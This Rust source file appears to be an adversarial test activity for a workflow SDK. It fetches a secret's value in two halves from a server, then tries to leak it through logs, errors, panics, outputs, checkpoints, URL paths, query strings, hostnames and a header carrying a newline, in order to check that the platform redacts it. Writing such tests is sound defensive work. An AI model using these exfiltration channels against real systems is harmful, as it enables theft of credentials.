//! Tells a secret wherever it can: proves that none gets out, even where the guest has come by its value.
//!
//! A server gives the value away in two halves, which nobody can recognise; the guest puts them together.

use fermata_sdk::prelude::*;

/// The secret that is to get out.
const SECRET: &str = "leak-token";

/// Where to get the value, and how to end.
#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Inputs {
    /// A server that answers `{"halves": ["…", "…"]}`.
    url: String,
    /// What to tell it with at the end.
    way: Way,
}

#[derive(Clone, Copy, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
enum Way {
    Outputs,
    Failure,
    Panic,
    Checkpoint,
    Url,
    Contract,
}

/// Whatever fits.
#[derive(Debug, Serialize, JsonSchema)]
struct Outputs {
    told: Vec<String>,
    #[schemars(with = "Option<u32>")]
    count: Option<String>,
}

struct Leaky;

impl Activity for Leaky {
    const NAME: &'static str = env!("CARGO_PKG_NAME");
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    type Inputs = Inputs;
    type Outputs = Outputs;

    fn summary() -> &'static str {
        "Tells a secret wherever it can."
    }

    fn capabilities() -> Capabilities {
        Capabilities::none().http("*", &["POST"]).secret(SECRET)
    }

    fn run(attempt: &Attempt, inputs: Inputs) -> Result<Outcome<Outputs>, Failure> {
        let value = come_by(&inputs.url)?;
        let told = spellings(&value);
        for text in &told {
            log::info!("it is {text}");
            progress::report(None, text);
            // A kind or a fact that is refused is one way less.
            drop(evidence::record(&value, &json!({ "told": text })));
            drop(evidence::record("link", &json!({ text: [text] })));
        }
        if attempt.checkpoint::<Vec<String>>()?.is_some() {
            return Ok(Outcome::Done(Outputs { told, count: None }));
        }
        match inputs.way {
            Way::Outputs => Ok(Outcome::Done(Outputs { told, count: None })),
            Way::Failure => Err(Failure::permanent(format!("it is {value}"))
                .code(&value)
                .details(&json!({ &value: told }))),
            Way::Panic => panic!("it is {value}"),
            Way::Checkpoint => {
                let waiting = pending(&told, Duration::from_millis(100))?;
                Ok(waiting.status(format!("with {value}")))
            }
            Way::Url => {
                for url in [
                    format!("{}/{value}", inputs.url),
                    format!("{}/?q={value}", inputs.url),
                    format!("http://{value}.example/"),
                    format!("{value}:x"),
                ] {
                    drop(http::Request::post(url).send());
                }
                http::Request::post(&inputs.url)
                    .header(&value, "x\ny")
                    .send()?;
                Ok(Outcome::Done(Outputs { told, count: None }))
            }
            Way::Contract => Ok(Outcome::Done(Outputs {
                told: Vec::new(),
                count: Some(value),
            })),
        }
    }
}

/// The value, as the server gives it away after it was sent there.
fn come_by(url: &str) -> Result<String, Failure> {
    #[derive(Deserialize)]
    struct Halves {
        halves: [String; 2],
    }
    let handle = secrets::handle(SECRET)?;
    let answer: Halves = http::Request::post(url)
        .header("authorization", format!("Bearer {handle}"))
        .body(handle)
        .send()?
        .success()?
        .json()?;
    Ok(answer.halves.concat())
}

/// The value in the forms that common tools give it.
fn spellings(value: &str) -> Vec<String> {
    let percent = value.bytes().map(|byte| {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            char::from(byte).to_string()
        } else {
            format!("%{byte:02X}")
        }
    });
    vec![
        value.to_owned(),
        value.to_ascii_lowercase(),
        json!(value).to_string(),
        percent.collect(),
    ]
}

fermata_sdk::activity!(Leaky);

#[cfg(test)]
mod tests {
    use super::*;
    use fermata_sdk::testing::{self, Answer, Host};

    #[test]
    fn it_tells_what_it_came_by() {
        let host = Host::install();
        host.secret(SECRET);
        let halves = json!({ "halves": ["correct", "-horse"] });
        host.answer("POST", "http://a.example/", Answer::json(200, &halves));
        let inputs = json!({ "url": "http://a.example/", "way": "outputs" });
        let outputs = testing::finish::<Leaky>(inputs).expect("succeeds");
        assert_eq!(outputs.told[0], "correct-horse");
        assert_eq!(host.log()[0], "info: it is correct-horse");
    }
}
